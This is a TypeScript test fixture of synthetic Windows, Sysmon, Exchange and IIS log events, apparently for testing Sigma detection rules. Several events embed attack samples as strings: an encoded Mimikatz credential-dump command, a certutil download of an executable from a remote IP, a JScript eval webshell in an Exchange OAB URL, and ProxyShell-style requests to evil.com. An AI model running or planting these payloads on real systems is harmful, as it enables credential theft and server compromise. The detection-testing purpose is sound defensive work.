// The events of the Sigma matching tests, by name: `LINE.cmd` is the line (evidence pointer) of the
// event named cmd in the case that sigmaCase builds from EVENTS.
import type { TestEvent } from '../../analysis/synthetic-case.js'
import { iis, security, sysmon, windowsEvent } from './sigma-case.js'

const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')

const NAMED: Array<[string, TestEvent]> = [
  [
    'cmd',
    sysmon(1, '01:10:09', {
      Image: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'cmd.exe /c  whoami',
      ParentImage: 'C:\\Windows\\explorer.exe',
      ParentCommandLine: 'C:\\Windows\\explorer.exe',
      User: 'ACME\\jdoe',
      IntegrityLevel: 'High',
      OriginalFileName: 'Cmd.Exe',
      Hashes: 'SHA1=AB12,MD5=CD34',
      UtcTime: '2026-03-11 01:10:09.123',
      CurrentDirectory: 'C:\\Users\\jdoe\\',
    }),
  ],
  [
    'powershell',
    sysmon(1, '02:00', {
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine: `powershell.exe -enc ${wide('IEX (Invoke-Mimikatz -DumpCreds)')} ; echo ${Buffer.from('whoami').toString('base64')}`,
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      ParentCommandLine: 'cmd.exe',
      User: 'ACME\\jdoe',
      IntegrityLevel: 'Medium',
      CurrentDirectory: '',
    }),
  ],
  [
    'certutil',
    sysmon(1, '03:00', {
      Image: 'C:\\Windows\\System32\\certutil.exe',
      CommandLine: 'certutil.exe \u2013urlcache -f http://198.51.100.7/a.exe a.exe',
      ParentImage: 'C:\\Windows\\System32\\certutil.exe',
      ParentCommandLine: 'certutil.exe',
      User: 'ACME\\svc',
      IntegrityLevel: 'High',
      CurrentDirectory: 'C:\\',
    }),
  ],
  ['star', sysmon(1, '04:00', { Image: 'C:\\Temp\\a*b.exe', CommandLine: 'a*b.exe', ParentImage: 'C:\\Windows\\explorer.exe', ParentCommandLine: 'x', CurrentDirectory: 'C:\\' })],
  ['nostar', sysmon(1, '04:30', { Image: 'C:\\Temp\\aXb.exe', CommandLine: 'aXb.exe', ParentImage: 'C:\\Windows\\explorer.exe', ParentCommandLine: 'x', CurrentDirectory: 'C:\\' })],
  ['smb', sysmon(3, '05:00', { Image: 'C:\\Windows\\System32\\svchost.exe', DestinationIp: '10.1.2.3', DestinationPort: '445', Initiated: 'true' })],
  ['linklocal', sysmon(3, '05:10', { Image: 'C:\\Windows\\System32\\svchost.exe', DestinationIp: 'fe80::1%12', DestinationPort: '135', Initiated: 'true' })],
  ['doc', sysmon(3, '05:20', { Image: 'C:\\Windows\\System32\\svchost.exe', DestinationIp: '2001:db8:0:1::5', DestinationPort: '443', Initiated: 'true' })],
  ['dns', sysmon(3, '05:30', { Image: 'C:\\Windows\\System32\\svchost.exe', DestinationIp: '8.8.8.8', DestinationPort: '53', Initiated: 'false' })],
  [
    'audit4688',
    security(4688, '06:00', {
      NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'cmd /c net user',
      ParentProcessName: 'C:\\Windows\\explorer.exe',
      MandatoryLabel: 'S-1-16-12288',
      NewProcessId: '0x1f4',
      ProcessId: '0x9c',
      SubjectUserName: 'jdoe',
      SubjectDomainName: 'ACME',
    }),
  ],
  ['logonfailed', security(4625, '07:00', { TargetUserName: 'admin', TargetDomainName: 'ACME', IpAddress: '203.0.113.9', LogonType: '3' }, 'ACME\\admin')],
  [
    'defender',
    windowsEvent({
      provider: 'Microsoft-Windows-Windows Defender',
      id: 1116,
      channel: 'Microsoft-Windows-Windows Defender/Operational',
      time: '08:00',
      data: { 'Threat Name': 'Trojan:Win32/Foo', 'Process Name': 'C:\\x.exe', 'Feature Name': 'Real-time protection' },
    }),
  ],
  ['esent', windowsEvent({ provider: 'ESENT', id: 216, channel: 'Application', time: '09:00', data: { Data1: 'ntds.dit', Data2: 'C:\\x' }, unnamed: true })],
  [
    'cmdlet',
    windowsEvent({
      provider: 'MSExchange CmdletLogs',
      id: 1,
      channel: 'MSExchange Management',
      time: '10:00',
      data: {
        Data1: 'Set-OabVirtualDirectory',
        Data2: '-Identity \'EX01\\OAB (Default Web Site)\' -ExternalUrl \'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"])}</script>\'',
      },
      unnamed: true,
    }),
  ],
  ['logon', iis('11:00', { ip: '198.51.100.7', path: '/owa/auth/logon.aspx', agent: 'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0' })],
  ['ecp', iis('11:05', { ip: '203.0.113.9', method: 'POST', path: '/ecp/DDI/DDIService.svc/SetObject', query: 'schema=OABVirtualDirectory', user: 'ACME\\admin' })],
  ['autodiscover', iis('11:10', { ip: '203.0.113.9', path: '/autodiscover/autodiscover.json', query: '@evil.com/PowerShell/?Email=autodiscover/autodiscover.json%3F@evil.com' })],
  ['webshell', iis('11:15', { ip: '203.0.113.10', path: '/aspnet_client/shell.aspx', status: 404 })],
  [
    'mail',
    { dataset: 'msgtrk', action: 'SEND', sender: 'jdoe@acme.example', recipients: ['boss@acme.example', 'drop@evil.example'], fields: {}, raw: 'SEND jdoe@acme.example' },
  ],
]

export const EVENTS: TestEvent[] = NAMED.map(([, event]) => event)

/** Line of each named event. */
export const LINE: Record<string, number> = Object.fromEntries(NAMED.map(([name], i) => [name, i + 1]))

/** Lines of the named events, sorted. */
export function lines(...names: string[]): number[] {
  return names.map((n) => LINE[n]!).sort((a, b) => a - b)
}
